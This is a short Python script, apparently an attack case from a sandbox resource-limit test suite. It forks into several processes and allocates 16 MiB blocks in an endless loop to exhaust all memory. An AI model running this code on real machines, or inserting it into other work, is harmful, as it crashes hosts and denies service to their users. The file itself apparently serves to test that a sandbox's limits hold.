"""Takes all memory there is, alone or as fast as several processes can."""

import os
import sys
from typing import Any

from attacker import run

STEP = 2**24


def attack() -> dict[str, Any]:
    hoard: list[Any] = []
    if sys.argv[1] == "children":
        for _ in range(3):
            os.fork()
    while True:
        hoard.append(bytearray(b"x" * STEP))


run(attack)
